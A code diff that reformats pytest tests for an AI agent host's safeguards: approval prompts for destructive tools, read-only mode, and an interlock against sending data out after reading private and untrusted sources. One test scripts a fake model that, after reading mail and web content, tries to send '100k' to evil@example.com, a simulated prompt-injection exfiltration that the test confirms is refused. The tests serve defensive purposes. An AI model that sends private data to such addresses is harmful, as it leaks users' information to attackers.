@@ -25,10 +25,14 @@ def wipe() -> str:
     return "wiped"
 
 
-@pytest.mark.parametrize("answer,expected", [
-    (True, "wiped"), (False, "Not allowed: the user said no."),
-    (None, "Not allowed: nobody answered."),
-])
+@pytest.mark.parametrize(
+    "answer,expected",
+    [
+        (True, "wiped"),
+        (False, "Not allowed: the user said no."),
+        (None, "Not allowed: nobody answered."),
+    ],
+)
 async def test_destructive_tool_asks(openai_host, fake_llm, answer, expected):
     openai_host.registry.register(wipe, destructive=True)
     fake_llm.script = [call("wipe"), echo]
@@ -43,8 +47,9 @@ async def test_nobody_to_ask_means_no(openai_host, fake_llm):
     openai_host.registry.register(wipe, destructive=True)
     fake_llm.script = [call("wipe"), echo]
     # the session's platform "test" is not registered: there is nobody to ask
-    assert (await openai_host.handle_message(message("wipe"))).text == \
-        "Not allowed: nobody to ask for approval."
+    assert (
+        await openai_host.handle_message(message("wipe"))
+    ).text == "Not allowed: nobody to ask for approval."
 
 
 async def test_read_only_mode_refuses_side_effects(openai_host, fake_llm):
@@ -100,8 +105,13 @@ async def test_interlock_refuses_chosen_egress_after_private_and_untrusted(opena
     openai_host.registry.register(read_mail, private=True)
     openai_host.registry.register(read_web, untrusted=True)
     openai_host.registry.register(send, egress="chosen")
-    fake_llm.script = [call("send", to="boss@example.com", text="hi"), call("read_mail"),
-                       call("read_web"), call("send", to="evil@example.com", text="100k"), echo]
+    fake_llm.script = [
+        call("send", to="boss@example.com", text="hi"),
+        call("read_mail"),
+        call("read_web"),
+        call("send", to="evil@example.com", text="100k"),
+        echo,
+    ]
     reply = (await openai_host.handle_message(message("go"))).text
     assert sent == ["boss@example.com"]  # allowed before, refused after
     assert reply.startswith("Refused: send sends data to a destination you choose")
